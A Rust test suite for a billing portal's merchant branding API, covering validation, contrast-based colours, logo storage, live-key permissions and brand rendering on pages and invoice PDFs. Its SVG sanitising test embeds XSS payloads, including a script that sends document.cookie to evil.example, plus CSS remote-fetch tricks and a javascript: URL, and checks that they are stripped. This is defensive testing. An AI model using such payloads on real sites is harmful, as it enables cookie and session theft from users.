//! The merchant's brand: `GET`/`POST /v1/branding` with every refusal naming its field,
//! logos (PNG as sent, SVG sanitised and served under a no-script policy), colours with
//! WCAG AA text and link colours, and the brand on the portal's pages and invoice PDFs.
use base64::{engine::general_purpose::STANDARD, Engine};
use serde_json::{json, Value};

use crate::{
    on_both_backends,
    support::{self, Backend, TestApp},
};

/// A 4×2 PNG with transparent pixels (RGBA).
const PNG_WITH_ALPHA: &str =
    "iVBORw0KGgoAAAANSUhEUgAAAAQAAAACCAYAAAB/qH1jAAAAGUlEQVR4nGPgK5nwH4gb/v//zwBiM6ALAAAdtBFjsQUj0QAAAABJRU5ErkJggg==";

/// A 1×1 PNG.
const PNG: &str =
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAIAAACQd1PeAAAADElEQVR4nGP4z8AAAAMBAQDJ/pLvAAAAAElFTkSuQmCC";

async fn brand(app: &TestApp, body: Value) -> (u16, Value) {
    app.live_api("POST", "/v1/branding", Some(body)).await
}

async fn branding_is_validated_and_stored(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let (status, default) = app.api("GET", "/v1/branding", None).await;
    assert_eq!(status, 200, "{default}");
    assert_eq!(default["accentColor"], Value::Null);
    assert_eq!(default["accentTextColor"], "#ffffff");
    assert_eq!(default["warnings"], json!([]));

    let (status, saved) = brand(
        &app,
        json!({
            "businessName": "Acme Cloud GmbH",
            "accentColor": "#0E7490",
            "supportUrl": "https://acme.example/help",
            "supportEmail": "billing@acme.example",
            "privacyPolicyUrl": "https://acme.example/privacy",
            "termsOfServiceUrl": "https://acme.example/terms",
            "logo": { "contentType": "image/png", "data": PNG }
        }),
    )
    .await;
    assert_eq!(status, 200, "{saved}");
    assert_eq!(saved["accentColor"], "#0e7490");
    assert_eq!(saved["accentTextColor"], "#ffffff");
    assert_eq!(saved["linkColor"], "#0e7490");
    // Too dark for the dark scheme's page: its links there are a lighter shade, at AA.
    let dark_link = saved["darkLinkColor"].as_str().unwrap();
    let dark_link = vinr_portal::domain::color::Rgb::parse_hex(dark_link).unwrap();
    assert!(
        vinr_portal::domain::color::lowest_contrast(
            dark_link,
            &vinr_portal::domain::color::DARK_SURFACES
        ) >= 4.5,
        "{saved}"
    );
    assert!(dark_link.luminance() > vinr_portal::domain::color::Rgb(0x0e, 0x74, 0x90).luminance());
    assert_eq!(saved["logo"]["contentType"], "image/png");
    let logo_url = saved["logo"]["url"].as_str().unwrap().to_string();
    let logo = app.http.get(app.url(&logo_url)).send().await.unwrap();
    assert_eq!(logo.status(), 200);
    assert_eq!(logo.headers()["content-type"], "image/png");
    assert_eq!(
        logo.bytes().await.unwrap().to_vec(),
        STANDARD.decode(PNG).unwrap()
    );

    // A light accent: dark text on buttons, darker links, and a warning for the merchant.
    let (status, light) = brand(&app, json!({ "accentColor": "#fde047" })).await;
    assert_eq!(status, 200);
    assert_eq!(light["accentTextColor"], "#111827");
    assert_ne!(light["linkColor"], "#fde047");
    assert!(
        light["warnings"][0].as_str().unwrap().contains("4.5:1"),
        "{light}"
    );
    assert_eq!(
        light["businessName"], "Acme Cloud GmbH",
        "other fields kept"
    );
    assert_eq!(light["logo"]["contentType"], "image/png", "the logo kept");

    // Refusals name their field and change nothing.
    let too_big = STANDARD.encode(vec![0u8; 600 * 1024]);
    for (body, param) in [
        (json!({ "accentColor": "teal" }), "accentColor"),
        (json!({ "supportUrl": "javascript:alert(1)" }), "supportUrl"),
        (
            json!({ "privacyPolicyUrl": "/privacy" }),
            "privacyPolicyUrl",
        ),
        (json!({ "supportEmail": "not an email" }), "supportEmail"),
        (
            json!({ "logo": { "contentType": "image/png", "data": "bm90IGEgcG5n" } }),
            "logo.data",
        ),
        (
            json!({ "logo": { "contentType": "image/gif", "data": PNG } }),
            "logo.contentType",
        ),
        (
            json!({ "logo": { "contentType": "image/png", "data": too_big } }),
            "logo.data",
        ),
        (
            json!({ "logo": { "contentType": "image/svg+xml", "data": STANDARD.encode("<html/>") } }),
            "logo.data",
        ),
        (json!({ "colour": "#fff" }), "colour"),
    ] {
        let (status, body) = brand(&app, body).await;
        assert_eq!(
            (status, body["error"]["param"].as_str()),
            (400, Some(param)),
            "{body}"
        );
    }
    let (_, unchanged) = app.api("GET", "/v1/branding", None).await;
    assert_eq!(unchanged["accentColor"], "#fde047");

    // Clearing fields and the logo.
    let (status, cleared) = brand(&app, json!({ "supportUrl": null, "logo": null })).await;
    assert_eq!(status, 200);
    assert_eq!(cleared["supportUrl"], Value::Null);
    assert_eq!(cleared["logo"], Value::Null);
    assert_eq!(app.status_of(&logo_url).await, 404);

    // Recorded in the audit log; another merchant's brand is its own.
    let (_, log) = app.live_api("GET", "/v1/audit_log?limit=1", None).await;
    assert_eq!(log["data"][0]["action"], "branding.updated");
    assert_eq!(log["data"][0]["livemode"], true);
    let other = crate::support::seed_merchant(&app.db, "Other Co").await;
    let (_, theirs) = app
        .api_as(&other.secret_key, "GET", "/v1/branding", None)
        .await;
    assert_eq!(theirs["businessName"], Value::Null);
}
on_both_backends!(branding_is_validated_and_stored);

/// Branding and custom domains serve both modes, so a test key (the kind kept in CI
/// settings) may read them but not change them: only a live key may.
async fn shared_settings_change_with_live_keys_only(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let (status, _) = brand(&app, json!({ "businessName": "Acme Cloud GmbH" })).await;
    assert_eq!(status, 200);
    let (status, created) = app
        .live_api(
            "POST",
            "/v1/custom_domains",
            Some(json!({ "domain": "billing.acme.test" })),
        )
        .await;
    assert_eq!(status, 200, "{created}");
    let domain = format!("/v1/custom_domains/{}", created["id"].as_str().unwrap());

    for (method, path, body) in [
        (
            "POST",
            "/v1/branding".to_string(),
            Some(json!({ "businessName": "Evil Corp", "supportUrl": "https://evil.example" })),
        ),
        (
            "POST",
            "/v1/custom_domains".to_string(),
            Some(json!({ "domain": "billing.evil.test" })),
        ),
        ("POST", format!("{domain}/verify"), None),
        ("DELETE", domain.clone(), None),
    ] {
        let (status, refused) = app.api(method, &path, body).await;
        assert_eq!(
            (status, refused["error"]["code"].as_str()),
            (403, Some("live_key_required")),
            "{method} {path} with a test key: {refused}"
        );
    }
    // Reading is allowed, and nothing changed.
    let (status, branding) = app.api("GET", "/v1/branding", None).await;
    assert_eq!(status, 200);
    assert_eq!(branding["businessName"], "Acme Cloud GmbH");
    assert_eq!(branding["supportUrl"], Value::Null);
    let (_, domains) = app.api("GET", "/v1/custom_domains", None).await;
    assert_eq!(domains["data"].as_array().unwrap().len(), 1, "{domains}");
    let (_, test_log) = app.api("GET", "/v1/audit_log", None).await;
    assert!(
        !test_log.to_string().contains("branding.updated"),
        "the live key's change is in the live audit log only: {test_log}"
    );
}
on_both_backends!(shared_settings_change_with_live_keys_only);

async fn an_svg_logo_is_neutralised(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let svg = r##"<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 40 10" onload="alert(document.cookie)"><script>fetch('https://evil.example/?c='+document.cookie)</script><rect width="40" height="10" fill="#0e7490" onmouseover="alert(1)"/><text x="2" y="8">Acme</text></svg>"##;
    let (status, saved) = brand(
        &app,
        json!({ "logo": { "contentType": "image/svg+xml", "data": STANDARD.encode(svg) } }),
    )
    .await;
    assert_eq!(status, 200, "{saved}");
    let response = app
        .http
        .get(app.url(saved["logo"]["url"].as_str().unwrap()))
        .send()
        .await
        .unwrap();
    assert_eq!(response.headers()["content-type"], "image/svg+xml");
    let policy = response.headers()["content-security-policy"]
        .to_str()
        .unwrap()
        .to_string();
    assert!(policy.contains("default-src 'none'") && policy.contains("sandbox"));
    let served = response.text().await.unwrap();
    for gone in ["script", "onload", "onmouseover", "evil.example", "cookie"] {
        assert!(!served.contains(gone), "{gone} in {served}");
    }
    assert!(served.contains("<rect") && served.contains("Acme"));
    assert!(
        served.starts_with(r#"<?xml version="1.0" encoding="UTF-8"?>"#),
        "{served}"
    );

    // What CSS could fetch with goes too: remote url(), escapes, image-set.
    let svg = r##"<?xml version="1.0" encoding="windows-1252"?><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 40 10"><rect width="40" height="10" fill="url(#g) url(https://evil.example/a)"/><rect style="fill:u\72l(https://evil.example/b)" width="1" height="1"/><rect style="background:image-set('https://evil.example/c' 1x)" width="1" height="1"/></svg>"##;
    let (status, saved) = brand(
        &app,
        json!({ "logo": { "contentType": "image/svg+xml", "data": STANDARD.encode(svg) } }),
    )
    .await;
    assert_eq!(status, 200, "{saved}");
    let served = app
        .http
        .get(app.url(saved["logo"]["url"].as_str().unwrap()))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(!served.contains("evil.example"), "{served}");
    assert!(!served.contains("windows-1252"), "{served}");
}
on_both_backends!(an_svg_logo_is_neutralised);

/// An SVG logo is drawn to PNG once, when it is uploaded (and, for logos stored before,
/// once at start): requests for the PNG, PDFs and receipts read that rendition.
async fn an_svg_logo_is_drawn_once_at_upload(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    // An SVG of no size cannot be drawn: refused at upload, with what to do.
    let sizeless = r##"<svg xmlns="http://www.w3.org/2000/svg" width="0" height="0"><rect width="40" height="10"/></svg>"##;
    let (status, refused) = brand(
        &app,
        json!({ "logo": { "contentType": "image/svg+xml", "data": STANDARD.encode(sizeless) } }),
    )
    .await;
    assert_eq!(
        (status, refused["error"]["param"].as_str()),
        (400, Some("logo.data")),
        "{refused}"
    );
    assert!(refused["error"]["message"]
        .as_str()
        .unwrap()
        .contains("viewBox"));

    let svg = r##"<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 40 10"><rect width="40" height="10" fill="#0e7490"/></svg>"##;
    let (status, saved) = brand(
        &app,
        json!({ "logo": { "contentType": "image/svg+xml", "data": STANDARD.encode(svg) } }),
    )
    .await;
    assert_eq!(status, 200, "{saved}");
    let png_url = saved["logo"]["url"]
        .as_str()
        .unwrap()
        .replacen("/logo?", "/logo.png?", 1);
    let fetch_png = || async {
        app.http
            .get(app.url(&png_url))
            .send()
            .await
            .unwrap()
            .bytes()
            .await
            .unwrap()
            .to_vec()
    };
    let first = fetch_png().await;
    assert!(first.starts_with(b"\x89PNG"), "a PNG rendition");
    let stored = app
        .sql_text(&format!(
            "SELECT CAST(LENGTH(brand_logo_png) AS TEXT) FROM merchants WHERE id = '{}'",
            app.merchant.id
        ))
        .await;
    assert_eq!(
        stored,
        first.len().to_string(),
        "served from the stored rendition"
    );

    // Requests serve the stored rendition as it is, whatever the SVG says: nothing is drawn
    // per request (a PNG in its place is what comes back).
    app.sql(
        &format!(
            "UPDATE merchants SET brand_logo_png = brand_logo WHERE id = '{}' AND $1 = $1",
            app.merchant.id
        ),
        "",
    )
    .await;
    assert!(fetch_png().await.ends_with(svg.as_bytes()));

    // A logo stored before renditions existed is drawn once, at the next start.
    app.sql(
        &format!(
            "UPDATE merchants SET brand_logo_png = NULL WHERE id = '{}' AND $1 = $1",
            app.merchant.id
        ),
        "",
    )
    .await;
    let mut config = vinr_portal::server::config::Config::for_tests(&app.database_url);
    config.operator_keys = support::operator_keys();
    drop(
        vinr_portal::startup::Application::build(config)
            .await
            .unwrap(),
    );
    assert_eq!(fetch_png().await, first);
}
on_both_backends!(an_svg_logo_is_drawn_once_at_upload);

async fn the_portal_and_pdfs_wear_the_brand(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let (status, _) = brand(
        &app,
        json!({
            "businessName": "Acme Cloud GmbH",
            "accentColor": "#fde047",
            "supportEmail": "billing@acme.example",
            "privacyPolicyUrl": "https://acme.example/privacy",
            "termsOfServiceUrl": "https://acme.example/terms",
            "logo": { "contentType": "image/png", "data": PNG_WITH_ALPHA }
        }),
    )
    .await;
    assert_eq!(status, 200);
    let cookie = app.signed_in_cookie().await;
    for path in ["/portal", "/portal/invoices", "/portal/activity"] {
        let (status, html) = app.page(&cookie, path).await;
        assert_eq!(status, 200, "{path}");
        assert!(
            html.contains("--accent: #fde047; --accent-text: #111827;"),
            "{path}"
        );
        // Both schemes' link colours travel with the page; yellow is light enough for the
        // dark scheme as it is.
        let (light_link, _) = vinr_portal::domain::color::link_on_light(
            vinr_portal::domain::color::Rgb(0xfd, 0xe0, 0x47),
        );
        assert!(
            html.contains(&format!(
                "--link-light: {}; --link-dark: #fde047;",
                light_link.hex()
            )),
            "{path}"
        );
        assert!(html.contains("class=\"merchant-logo\""), "{path}");
        assert!(html.contains("Acme Cloud GmbH"));
        assert!(html.contains("href=\"https://acme.example/privacy\""));
        assert!(html.contains("href=\"https://acme.example/terms\""));
        assert!(html.contains("mailto:billing@acme.example"));
    }

    // A configuration's businessProfile puts its headline and legal links over the brand's.
    let (status, body) = app
        .api(
            "POST",
            "/v1/billing/portal/configurations/default",
            Some(json!({ "businessProfile": {
                "headline": "Acme partners with VINR for billing",
                "privacyPolicyUrl": "https://acme.example/eu-privacy"
            } })),
        )
        .await;
    assert_eq!(status, 200, "{body}");
    let cookie = app.signed_in_cookie().await;
    let (_, html) = app.page(&cookie, "/portal").await;
    assert!(html.contains("Acme partners with VINR for billing"));
    assert!(html.contains("href=\"https://acme.example/eu-privacy\""));
    assert!(!html.contains("href=\"https://acme.example/privacy\""));
    assert!(
        html.contains("href=\"https://acme.example/terms\""),
        "the brand's terms stay"
    );

    // A new invoice's PDF carries the brand's contact and legal links.
    let invoice = app.invoiced_upgrade().await["id"]
        .as_str()
        .unwrap()
        .to_string();
    let pdf = app
        .invoice_pdf(&app.merchant.secret_key, &invoice)
        .await
        .bytes()
        .await
        .unwrap();
    let text = support::pdf_text(&pdf);
    assert!(text.contains("billing@acme.example"), "{text}");
    assert!(text.contains("https://acme.example/privacy"));
    // And the logo: a 4×2 RGB image with its transparency as a soft mask.
    let images = support::pdf_images(&pdf);
    let rows: Vec<Vec<&str>> = images
        .lines()
        .skip(2)
        .map(|line| line.split_whitespace().collect())
        .collect();
    assert_eq!(rows.len(), 2, "{images}");
    assert_eq!(&rows[0][2..6], ["image", "4", "2", "rgb"], "{images}");
    assert_eq!(&rows[1][2..6], ["smask", "4", "2", "gray"], "{images}");
}
on_both_backends!(the_portal_and_pdfs_wear_the_brand);
